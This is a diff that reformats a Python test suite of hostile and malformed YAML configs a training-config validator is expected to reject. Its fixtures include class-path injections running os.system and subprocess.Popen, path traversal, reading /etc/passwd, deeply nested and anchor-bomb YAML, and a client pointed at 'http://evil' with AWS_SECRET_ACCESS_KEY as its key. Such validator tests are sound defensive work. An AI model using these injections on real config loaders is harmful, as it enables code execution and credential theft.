@@ -67,9 +67,7 @@ QUICK: dict[str, tuple[str | bytes | Callable[[Path], None], str]] = {
     "deep lists": ("a: " + "[" * 20_000, "levels deep"),
     "deep mappings": ("a: " + "{b: " * 10_000, "levels deep"),
     "deep by indent": ("\n".join(" " * n + "a:" for n in range(600)), "levels deep"),
-    "deep by anchors": (
-        "a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}]\n" for n in range(1, 100)), "levels deep"
-    ),
+    "deep by anchors": ("a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [*a{n - 1}]\n" for n in range(1, 100)), "levels deep"),
     "many keys": ("".join(f"k{n}: 1\n" for n in range(20_000)), "values"),
     "long number": ("seed_everything: " + "9" * 5000 + "\n", "beyond 64 bits"),
     "long hexadecimal number": ("seed_everything: 0x" + "f" * 5000 + "\n", "beyond 64 bits"),
@@ -126,7 +124,8 @@ QUICK: dict[str, tuple[str | bytes | Callable[[Path], None], str]] = {
     "reference to what holds it": ("vars: {a: {b: '${vars}'}}\n", "leads back to itself"),
     "reference through a ring": ("vars: {a: '${vars.b.x}', b: '${vars.a}'}\n", "leads back to itself"),
     "long chain": (
-        "vars: {" + ", ".join(f"a{n}: '${{vars.a{n + 1}}}'" for n in range(200)) + ", a200: x}\n", "chain of more"
+        "vars: {" + ", ".join(f"a{n}: '${{vars.a{n + 1}}}'" for n in range(200)) + ", a200: x}\n",
+        "chain of more",
     ),
     "many chains": ("vars: {x: 1, " + ", ".join(f"a{n}: '${{vars.x}}'" for n in range(3000)) + "}\n", "values with"),
     "doubling texts": (doublings(40, "{0}{0}"), "values and characters"),
@@ -139,7 +138,8 @@ QUICK: dict[str, tuple[str | bytes | Callable[[Path], None], str]] = {
     "many references": ("vars: {x: 1}\nname: '" + "${vars.x}" * 5000 + "'\n", "4096 at most"),
     # classes from elsewhere
     "os.system as model": (
-        "model: {class_path: os.system, init_args: {command: 'touch {canary}'}}\ndata: {}\n", "in no known package"
+        "model: {class_path: os.system, init_args: {command: 'touch {canary}'}}\ndata: {}\n",
+        "in no known package",
     ),
     "Popen as callback": (
         TSPO + "trainer: {callbacks: [{class_path: subprocess.Popen, init_args: {args: [touch, '{canary}']}}]}\n",
@@ -156,14 +156,15 @@ QUICK: dict[str, tuple[str | bytes | Callable[[Path], None], str]] = {
     "relative path": (TSPO + "model: {class_path: .evil.Model}\n", "is no path of a class"),
     "path of underscores": (TSPO + "model: {class_path: 'a..b'}\n", "is no path of a class"),
     "job of the standard library": (
-        "job: {class_path: subprocess.Popen, init_args: {args: [touch, '{canary}']}}\n", "in no known package"
+        "job: {class_path: subprocess.Popen, init_args: {args: [touch, '{canary}']}}\n",
+        "in no known package",
     ),
     "job by its path": ("job: os.abort\n", "in no known package"),
     "infinite seed": (TSPO + "seed_everything: .inf\n", "not finite"),
     "infinite duration": (TSPO + "data: {init_args: {world: {duration_s: .inf}}}\n", "not finite"),
     "duration that overflows": (TSPO + "data: {init_args: {world: {duration_s: 1e999}}}\n", "not finite"),
     "duration that is no number": (TSPO + "data: {init_args: {world: {duration_s: .nan}}}\n", "not finite"),
-}  # fmt: skip
+}
 SLOW: dict[str, tuple[str, str]] = {
     # keys at the top
     "name leaves outputs": (TSPO + "name: ../../../tmp/x\n", "names a folder"),
@@ -185,21 +186,26 @@ SLOW: dict[str, tuple[str, str]] = {
     "a callback as model": (TSPO + "model: {class_path: callbacks.watchdog.Watchdog}\n", "is not a LightningModule"),
     "a job as data": (TSPO + "data: {class_path: recipes.jobs.inspect.Inspect}\n", "is not a LightningDataModule"),
     "a base class": (
-        TSPO + "model: {init_args: {sampler: {class_path: modules.selection.base.FrameSampler}}}\n", "base class"
+        TSPO + "model: {init_args: {sampler: {class_path: modules.selection.base.FrameSampler}}}\n",
+        "base class",
     ),
     "a reward that is a function": (
-        TSPO + "model: {init_args: {rewards: {own: {reward: os.system}}}}\n", "in no known package"
+        TSPO + "model: {init_args: {rewards: {own: {reward: os.system}}}}\n",
+        "in no known package",
     ),
     "a sampler by its path": (TSPO + "model: {init_args: {sampler: subprocess.Popen}}\n", "in no known package"),
     "a policy that is a function": (
-        TSPO + "model: {init_args: {sampler: {init_args: {policy: os.system}}}}\n", "in no known package"
+        TSPO + "model: {init_args: {sampler: {init_args: {policy: os.system}}}}\n",
+        "in no known package",
     ),
     "a policy of another kind": (
-        TSPO + f"model: {{init_args: {{sampler: {{init_args: {{policy: {CALLBACK}}}}}}}}}\n", "is not a PlackettLuce"
+        TSPO + f"model: {{init_args: {{sampler: {{init_args: {{policy: {CALLBACK}}}}}}}}}\n",
+        "is not a PlackettLuce",
     ),
     "functions as callbacks": (
         TSPO + "trainer: {callbacks: [{class_path: lightning.pytorch.callbacks.LambdaCallback, init_args: "
-        "{on_fit_start: os.getcwd}}]}\n", "on_fit_start: 'os.getcwd' is not Callable",
+        "{on_fit_start: os.getcwd}}]}\n",
+        "on_fit_start: 'os.getcwd' is not Callable",
     ),
     "a callback by name that is none": (
         TSPO + "trainer: {callbacks: {timeline: {class_path: modules.rewards.accuracy.Accuracy}}}\n",
@@ -211,7 +217,8 @@ SLOW: dict[str, tuple[str, str]] = {
     "strategy from elsewhere": (TSPO + "trainer: {strategy: os.system}\n", "in no known package"),
     "profiler from elsewhere": (TSPO + "trainer: {profiler: cProfile.run}\n", "in no known package"),
     "texts as numbers": (
-        TSPO + "data: {init_args: {world: {duration_s: '.inf'}}}\n", "is text where a number is wanted"
+        TSPO + "data: {init_args: {world: {duration_s: '.inf'}}}\n",
+        "is text where a number is wanted",
     ),
     "a mapping as number": (TSPO + "model: {init_args: {num_frames: {a: 1}}}\n", "num_frames: a mapping is not"),
     "a list as number": (TSPO + "model: {init_args: {num_frames: [1]}}\n", "num_frames: a list is not"),
@@ -226,7 +233,8 @@ SLOW: dict[str, tuple[str, str]] = {
         "template '/dev/zero': no such file",
     ),
     "a secret as prompt": (
-        TSPO + "model: {init_args: {mllm: {init_args: {prompt: {template: /etc/passwd}}}}}\n", "has no {question}"
+        TSPO + "model: {init_args: {mllm: {init_args: {prompt: {template: /etc/passwd}}}}}\n",
+        "has no {question}",
     ),
     "a kernel of the hub": (
         TSPO + "model: {init_args: {mllm: {init_args: {loading: {attn_implementation: some/kernel}}}}}\n",
@@ -234,9 +242,10 @@ SLOW: dict[str, tuple[str, str]] = {
     ),
     "a variable of the environment as key": (
         TSPO + "model: {init_args: {mllm: {class_path: modules.mllms.openai.OpenAIChat, init_args: "
-        "{model: m, base_url: 'http://evil', api_key_variable: AWS_SECRET_ACCESS_KEY}}}}\n", "_API_KEY",
+        "{model: m, base_url: 'http://evil', api_key_variable: AWS_SECRET_ACCESS_KEY}}}}\n",
+        "_API_KEY",
     ),
-}  # fmt: skip
+}
 
 
 def write(folder: Path, content: str | bytes | Callable[[Path], None]) -> Path:
